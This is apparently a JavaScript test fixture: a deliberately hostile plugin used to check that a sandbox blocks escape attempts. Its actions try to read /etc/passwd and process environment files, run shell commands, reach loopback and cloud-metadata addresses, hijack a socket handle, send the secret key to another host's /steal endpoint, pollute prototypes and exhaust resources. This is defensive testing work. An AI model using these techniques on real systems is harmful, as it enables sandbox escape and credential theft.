// A piece that tries to escape. Each action returns what it could access; the test checks that this is nothing.

const attempt = async (work) => {
  try {
    return { got: await work() }
  } catch (error) {
    return { refused: String(error?.code ?? error?.message ?? error).slice(0, 200) }
  }
}
const every = async (works) => {
  const found = {}
  for (const [name, work] of Object.entries(works)) found[name] = await attempt(work)
  return found
}
const within = (work) =>
  new Promise((resolve, reject) => {
    const timer = setTimeout(() => reject(new Error('no answer')), 2000)
    work(
      (value) => {
        clearTimeout(timer)
        resolve(value)
      },
      (error) => {
        clearTimeout(timer)
        reject(error)
      },
    )
  })
const dial = (options) =>
  within((resolve, reject) => {
    const socket = require('node:net').connect(options)
    socket.once('data', (data) => attemptTo(resolve, reject, data.toString()))
    socket.once('error', reject)
    socket.once('close', () => reject(new Error('closed')))
    socket.write('GET /direct HTTP/1.0\r\n\r\n')
  })

const actions = {
  environment: () => ({ names: Object.keys(process.env), argv: process.argv.slice(1) }),
  files: ({ propsValue }) => {
    const fs = require('node:fs')
    return every({
      passwd: () => fs.readFileSync('/etc/passwd', 'utf8').slice(0, 20),
      environ: () => fs.readFileSync('/proc/self/environ', 'utf8'),
      parent: () => fs.readFileSync(`/proc/${propsValue.pid}/environ`, 'utf8').slice(0, 20),
      host: () => fs.readFileSync(propsValue.file, 'utf8'),
      root: () => fs.readdirSync('/'),
      link: () => fs.symlinkSync('/etc', '/code/etc'),
      write: () => fs.writeFileSync('/tmp/written', 'x'),
      overwrite: () => fs.writeFileSync('/code/index.cjs', 'x'),
      promise: () => fs.promises.readFile('/etc/hostname', 'utf8'),
      descriptor: () => fs.openSync('/dev/tty', 'r'),
    })
  },
  processes: ({ propsValue }) =>
    every({
      exec: () => require('node:child_process').execSync('id').toString(),
      fork: () => require('node:child_process').fork('/code/index.cjs').pid,
      worker: () => new (require('node:worker_threads').Worker)('1', { eval: true }).threadId,
      binding: () => Object.keys(process.binding('fs')).length,
      addon: () => process.dlopen({ exports: {} }, '/usr/lib/x86_64-linux-gnu/libc.so.6'),
      inspector: () => require('node:inspector').open(0),
      kill: () => process.kill(propsValue.pid, 0),
    }),
  sockets: ({ propsValue }) =>
    every({
      tcp: () => dial({ host: '127.0.0.1', port: propsValue.port }),
      unix: () => dial({ path: propsValue.unix }),
      // The constructor of an allowed socket, used on a forbidden path.
      stolen: () =>
        within((resolve, reject) => {
          const { Socket } = require('node:net')
          const allowed = new Socket()
          allowed.on('error', () => {})
          allowed.connect({ host: 'example.com', port: 80 })
          const Pipe = allowed._handle.constructor
          const original = Pipe.prototype.connect
          Pipe.prototype.connect = function (request) {
            Pipe.prototype.connect = original
            return original.call(this, request, propsValue.unix)
          }
          const socket = new Socket()
          socket.once('connect', () => resolve('connected'))
          socket.once('error', reject)
          socket.connect({ host: 'example.com', port: 80 })
        }),
      udp: () =>
        within((resolve, reject) => {
          const socket = require('node:dgram').createSocket('udp4')
          socket.on('error', reject)
          socket.on('message', (data) => resolve(data.toString()))
          socket.send('hello', propsValue.udp, '127.0.0.1', (error) => error && reject(error))
        }),
      dns: () => require('node:dns').promises.resolve4('example.com'),
      http: async () => (await fetch(`http://127.0.0.1:${propsValue.port}/direct`)).text().then(refusedOr),
      metadata: async () => (await fetch('http://169.254.169.254/latest/meta-data/')).text().then(refusedOr),
      private: async () => (await fetch('http://10.0.0.1/')).text().then(refusedOr),
      loopback6: async () => (await fetch(`http://[::1]:${propsValue.port}/`)).text().then(refusedOr),
      mapped: async () => (await fetch(`http://[::ffff:127.0.0.1]:${propsValue.port}/`)).text().then(refusedOr),
    }),
  secret: ({ auth }) => ({ seen: JSON.stringify(auth) }),
  async echo({ auth, propsValue }) {
    const answer = await fetch(`${propsValue.vendor}/echo?key=${encodeURIComponent(auth)}`, {
      method: 'POST',
      headers: {
        'content-type': 'application/json',
        authorization: `Basic ${Buffer.from(`user:${auth}`).toString('base64')}`,
        'x-key': auth,
      },
      body: JSON.stringify({ key: auth, form: `a=${auth}` }),
    })
    return { status: answer.status, headers: Object.fromEntries(answer.headers), body: await answer.text() }
  },
  async elsewhere({ auth, propsValue }) {
    const answer = await fetch(`${propsValue.other}/steal`, {
      method: 'POST',
      headers: { authorization: `Bearer ${auth}` },
    })
    return { status: answer.status, body: await answer.text() }
  },
  redirect: async ({ auth, propsValue }) => {
    const answer = await fetch(`${propsValue.vendor}/redirect`, { headers: { authorization: `Bearer ${auth}` } })
    return { status: answer.status, body: await answer.text() }
  },
  pollution: () => {
    Object.prototype.polluted = 'inside'
    Array.prototype.toJSON = () => 'taken'
    return JSON.parse('{"__proto__": {"polluted": true}, "constructor": {"prototype": {"polluted": true}}}')
  },
  huge: () => 'x'.repeat(8 * 1024 * 1024),
  noise: () => {
    for (;;) {
      try {
        require('node:fs').writeSync(2, 'x'.repeat(10_000))
      } catch {
        // The pipe is temporarily full.
      }
    }
  },
  loop: () => {
    for (;;);
  },
  heap: () => {
    const held = []
    for (;;) held.push(new Array(100_000).fill(held.length))
  },
  buffers: () => {
    const held = []
    for (;;) held.push(Buffer.alloc(16 * 1024 * 1024, 1))
  },
  exit: () => process.exit(0),
  forge: () => {
    require('node:fs').writeSync(3, '{"id":"guessed","ok":true,"output":"forged"}\n')
    return 'real'
  },
  late: ({ propsValue }) => {
    setInterval(() => fetch(`${propsValue.vendor}/late`).catch(() => {}), 20)
    return 'started'
  },
  quiet: () => new Promise((resolve) => setTimeout(() => resolve('quiet'), 200)),
}

const attemptTo = (resolve, reject, text) =>
  text.includes('target_refused') ? reject(new Error('target_refused')) : resolve(text)

function refusedOr(text) {
  if (text.includes('target_refused')) throw new Error('target_refused')
  return text
}

exports.hostile = {
  displayName: 'Hostile',
  description: 'Tries to get out',
  auth: { type: 'SECRET_TEXT', displayName: 'Key', required: true },
  actions: () =>
    Object.fromEntries(
      Object.entries(actions).map(([name, run]) => [
        name,
        { name, displayName: name, description: name, props: {}, run },
      ]),
    ),
  triggers: () => ({}),
}
